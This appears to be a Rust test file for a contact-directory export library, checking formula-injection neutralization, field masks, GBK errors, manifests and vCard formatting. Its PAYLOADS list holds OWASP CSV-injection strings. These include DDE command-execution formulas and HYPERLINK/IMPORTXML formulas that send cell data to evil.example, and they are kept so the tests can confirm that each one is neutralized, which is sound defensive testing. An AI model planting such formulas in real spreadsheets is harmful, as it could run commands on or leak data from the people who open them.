//! Export behaviour across formats: formula injection, masks and field choice, GBK, the
//! manifest, the preview, vCard line rules, determinism.

use minglu::export::{
    export, preview, CsvEncoding, Destination, ExportOptions, LeftOutReason, Mask, MaskRule, SourceInfo,
};
use minglu::{open, read, Directory, ErrorKind, Field, OpenOptions, ReadOptions};

/// OWASP "CSV Injection" payloads (and the tab/CR/LF and leading-space forms).
const PAYLOADS: &[&str] = &[
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A1),\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+2\";=1+2",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    " @SUM(A1:A9)",
];

/// A directory whose free-text cells are payloads: the name, the position, the remark, an extra
/// column and that column's header. Mobiles are valid: mainland, `+86…`, `+852…`.
fn hostile() -> Directory {
    let mut csv = String::from("姓名,手机,职务,备注,=HYPERLINK(\"http://evil.example\")\r\n");
    let mobiles = ["13800138000", "+8613800138001", "+852 5912 3456"];
    for (i, p) in PAYLOADS.iter().enumerate() {
        let q = p.replace('"', "\"\"");
        csv.push_str(&format!("\"{q}\",{},\"{q}\",\"{q}\",\"{q}\"\r\n", mobiles[i % 3]));
    }
    let opened = open(csv.as_bytes(), &OpenOptions::default()).unwrap();
    assert_eq!(opened.directory.people.len(), PAYLOADS.len());
    opened.directory
}

fn cells(bytes: &[u8]) -> Vec<Vec<String>> {
    let sheet = read(bytes, &ReadOptions::default()).unwrap();
    sheet.rows.iter().map(|r| r.iter().map(|c| c.text.to_string()).collect()).collect()
}

fn is_neutral(cell: &str) -> bool {
    let rest = cell.trim_start_matches([' ', '\u{3000}']);
    !rest.starts_with(['=', '+', '-', '@', '\t', '\r', '\n'])
}

#[test]
fn every_owasp_payload_is_neutralized_in_csv_and_xlsx_and_phones_survive() {
    let dir = hostile();
    let extra = dir.extra_headers.clone();
    for (dest, enc) in [
        (Destination::Csv, CsvEncoding::Utf8Bom),
        (Destination::Csv, CsvEncoding::Gbk),
        (Destination::Xlsx, CsvEncoding::Utf8Bom),
        (Destination::Dingtalk, CsvEncoding::Utf8Bom),
        (Destination::Google, CsvEncoding::Utf8),
    ] {
        let options = ExportOptions {
            destination: dest,
            csv_encoding: enc,
            extra_columns: extra.clone(),
            ..ExportOptions::default()
        };
        let out = export(&dir, &options).unwrap();
        let grid = cells(&out.bytes);
        for (r, row) in grid.iter().enumerate() {
            for cell in row {
                let is_phone = cell.starts_with("+86") || cell.starts_with("+852");
                assert!(is_neutral(cell) || is_phone, "{dest:?} {enc:?} row {r}: {cell:?} left as a formula");
            }
        }
        // Each payload is there, behind a quote, unchanged otherwise: verbatim in the extra
        // column (CSV, xlsx), trimmed as the directory trims fields (templates).
        let all: Vec<&String> = grid.iter().flatten().collect();
        for p in PAYLOADS {
            let p = if dest.profile().is_some() { p.trim() } else { p };
            assert!(all.iter().any(|c| **c == format!("'{p}")), "{dest:?}: {p:?} missing");
        }
        assert!(out.manifest.neutralized_cells >= PAYLOADS.len(), "{dest:?}");
        let phones: Vec<&&String> = all.iter().filter(|c| c.starts_with('+')).collect();
        match dest {
            Destination::Dingtalk => assert!(phones.iter().any(|c| c.as_str() == "+852-59123456"), "{phones:?}"),
            Destination::Csv | Destination::Xlsx => {
                assert!(phones.iter().any(|c| c.as_str() == "+8613800138001"), "{phones:?}");
                assert!(phones.iter().any(|c| c.as_str() == "+852 5912 3456"), "{phones:?}");
            }
            _ => assert!(phones.iter().any(|c| c.as_str() == "+85259123456"), "{phones:?}"),
        }
    }
}

fn people() -> Directory {
    let csv = "姓名,帐号,手机,个人邮箱,部门,工号\n张三,zhangsan,13800138000,zhangsan@example.com,总部/研发,000123\n\
               欧阳娜娜,ouyang,+85259123456,nana@example.com,总部/设计,000124\n";
    open(csv.as_bytes(), &OpenOptions::default()).unwrap().directory
}

#[test]
fn masks_and_field_choice() {
    let dir = people();
    let options = ExportOptions {
        destination: Destination::Csv,
        csv_encoding: CsvEncoding::Utf8,
        fields: vec![Field::Name, Field::Mobile, Field::Email, Field::Userid],
        masks: vec![
            MaskRule { field: Field::Mobile, mask: Mask::Phone },
            MaskRule { field: Field::Email, mask: Mask::Email },
            MaskRule { field: Field::Name, mask: Mask::Name },
            MaskRule { field: Field::Userid, mask: Mask::Drop },
        ],
        ..ExportOptions::default()
    };
    let out = export(&dir, &options).unwrap();
    let text = String::from_utf8(out.bytes.clone()).unwrap();
    assert_eq!(text, "姓名,手机,邮箱\r\n张*,138****8000,z***@example.com\r\n欧阳**,+85259****56,n***@example.com\r\n");
    let m = &out.manifest;
    assert_eq!(
        m.fields.iter().map(|f| (f.field, f.mask)).collect::<Vec<_>>(),
        vec![(Field::Name, Some(Mask::Name)), (Field::Mobile, Some(Mask::Phone)), (Field::Email, Some(Mask::Email)),]
    );
    let left: Vec<(Field, LeftOutReason)> = m.left_out.iter().map(|l| (l.field, l.reason)).collect();
    assert_eq!(
        left,
        vec![
            (Field::Userid, LeftOutReason::Dropped),
            (Field::Departments, LeftOutReason::NotChosen),
            (Field::EmployeeNo, LeftOutReason::NotChosen),
        ]
    );
    // A vCard of the same: the masked name's parts are masked too.
    let v = export(&dir, &ExportOptions { destination: Destination::Vcard4, ..options.clone() }).unwrap();
    let card = String::from_utf8(v.bytes).unwrap();
    assert!(card.contains("N:张;*;;;\r\nFN:张*\r\n") && card.contains("N:欧阳;**;;;\r\nFN:欧阳**\r\n"), "{card}");
    assert!(!card.contains("zhangsan") && !card.contains("13800138000"), "{card}");
}

#[test]
fn templates_keep_their_columns_when_fields_are_left_out() {
    let dir = people();
    let options =
        ExportOptions { destination: Destination::Alimail, fields: vec![Field::Name], ..ExportOptions::default() };
    let grid = preview(&dir, &options, 10);
    assert_eq!(grid[0], ["姓名*", "邮箱账号*", "工号", "邮箱密码", "部门", "分机号", "职务", "手机", "邮箱容量(M)"]);
    assert_eq!(grid[1], ["张三", "", "", "", "", "", "", "", ""]);
    assert_eq!(
        Destination::Alimail.fields(),
        vec![
            Field::Name,
            Field::Userid,
            Field::Position,
            Field::Departments,
            Field::Mobile,
            Field::Extension,
            Field::EnterpriseEmail,
            Field::EmployeeNo,
        ]
    );
}

#[test]
fn gbk_names_the_row_and_column_it_cannot_write() {
    let csv = "姓名,手机\n张三,13800138000\n吉𠮷,13900139000\n";
    let dir = open(csv.as_bytes(), &OpenOptions::default()).unwrap().directory;
    let options =
        ExportOptions { destination: Destination::Csv, csv_encoding: CsvEncoding::Gbk, ..ExportOptions::default() };
    let e = export(&dir, &options).unwrap_err();
    assert_eq!(e.kind, ErrorKind::Unencodable);
    assert_eq!(e.position.row, Some(3));
    let text = e.to_string();
    assert!(text.contains("row 3") && text.contains("姓名") && text.contains("𠮷") && text.contains("UTF-8"), "{text}");
    let ok = export(&dir, &ExportOptions { csv_encoding: CsvEncoding::Utf8Bom, ..options }).unwrap();
    assert!(String::from_utf8(ok.bytes).unwrap().contains("吉𠮷"));
}

#[test]
fn manifest_records_source_time_recipe_and_output_hash() {
    let dir = people();
    let input = b"the input file's bytes";
    let options = ExportOptions {
        destination: Destination::Xlsx,
        source: Some(SourceInfo::of("通讯录.xlsx", input)),
        created: Some("2026-11-23T10:00:00+08:00".into()),
        recipe: Some(serde_json::json!({"ops": [{"fix": "mobile.format"}]})),
        file_stem: Some("通讯录-导出".into()),
        ..ExportOptions::default()
    };
    let out = export(&dir, &options).unwrap();
    assert_eq!(out.file_name, "通讯录-导出.xlsx");
    let m = &out.manifest;
    assert_eq!(m.rows, 2);
    assert_eq!(m.source.as_ref().unwrap().sha256, minglu::export::sha256_hex(input));
    assert_eq!(m.output_sha256, minglu::export::sha256_hex(&out.bytes));
    let json: serde_json::Value = serde_json::from_str(&m.to_json()).unwrap();
    assert_eq!(json["created"], "2026-11-23T10:00:00+08:00");
    assert_eq!(json["recipe"]["ops"][0]["fix"], "mobile.format");
    assert_eq!(json["destination"], "xlsx");
    let txt = m.to_txt();
    assert!(
        txt.contains("通讯录-导出.xlsx") && txt.contains("人数 People:          2") && txt.contains("通讯录.xlsx"),
        "{txt}"
    );
    let files = out.files();
    assert_eq!(
        files.iter().map(|f| f.0.as_str()).collect::<Vec<_>>(),
        ["通讯录-导出.xlsx", "通讯录-导出.xlsx.manifest.json", "通讯录-导出.xlsx.manifest.txt",]
    );
    // Same input, same options: same bytes (xlsx included — no clock is read).
    assert_eq!(export(&dir, &options).unwrap().bytes, out.bytes);
}

#[test]
fn vcard_lines_are_crlf_and_at_most_75_octets() {
    let g = minglu::sample::generate(&minglu::sample::SampleOptions { rows: 400, ..Default::default() });
    let dir = open(&minglu::sample::to_xlsx(&g).unwrap(), &OpenOptions::default()).unwrap().directory;
    for dest in [Destination::Vcard21, Destination::Vcard3, Destination::Vcard4] {
        let options = ExportOptions {
            destination: dest,
            vcard_charset: true,
            organization: Some("名录示例科技有限公司".into()),
            ..Default::default()
        };
        let bytes = export(&dir, &options).unwrap().bytes;
        let text = String::from_utf8(bytes).unwrap();
        assert!(!text.replace("\r\n", "").contains(['\r', '\n']), "{dest:?}: bare line ends");
        for line in text.split("\r\n") {
            assert!(line.len() <= 75, "{dest:?}: {} octets: {line}", line.len());
        }
        assert_eq!(text.matches("BEGIN:VCARD\r\n").count(), 400);
        if dest == Destination::Vcard3 {
            assert!(text.contains("ORG;CHARSET=UTF-8:名录示例科技有限公司;总部;"), "{}", &text[..600]);
        }
        if dest == Destination::Vcard4 {
            assert!(!text.contains("CHARSET"), "4.0 forbids CHARSET");
        }
    }
}

#[test]
fn preview_is_what_is_written() {
    let dir = people();
    let options = ExportOptions {
        destination: Destination::Wecom,
        csv_encoding: CsvEncoding::Utf8,
        sheet_file: Some(minglu::export::SheetFile::Csv),
        ..Default::default()
    };
    let grid = preview(&dir, &options, 1);
    assert_eq!(grid.len(), 2);
    let text = String::from_utf8(export(&dir, &options).unwrap().bytes).unwrap();
    let header_line = text.lines().nth(2).unwrap();
    assert_eq!(header_line, grid[0].join(","));
    assert_eq!(text.lines().nth(3).unwrap(), grid[1].join(","));
    let cards = preview(&dir, &ExportOptions { destination: Destination::Vcard3, ..Default::default() }, 5);
    assert_eq!(cards.len(), 2);
    assert_eq!(cards[0][..4], ["BEGIN:VCARD", "VERSION:3.0", "N:张;三;;;", "FN:张三"]);
}

#[test]
fn destination_keys() {
    for d in Destination::ALL {
        assert_eq!(Destination::from_key(d.key()), Some(d));
    }
    assert_eq!(Destination::from_key("vcard"), Some(Destination::Vcard3));
    assert_eq!(Destination::from_key("VCARD-21"), Some(Destination::Vcard21));
    assert_eq!(Destination::from_key("pdf"), None);
    let json = serde_json::to_string(&ExportOptions::default()).unwrap();
    let back: ExportOptions = serde_json::from_str(&json).unwrap();
    assert_eq!(back, ExportOptions::default());
    let partial: ExportOptions =
        serde_json::from_str(r#"{"destination":"google","masks":[{"field":"mobile","mask":"phone"}]}"#).unwrap();
    assert_eq!(partial.destination, Destination::Google);
    assert_eq!(partial.csv_encoding, CsvEncoding::Utf8Bom);
}
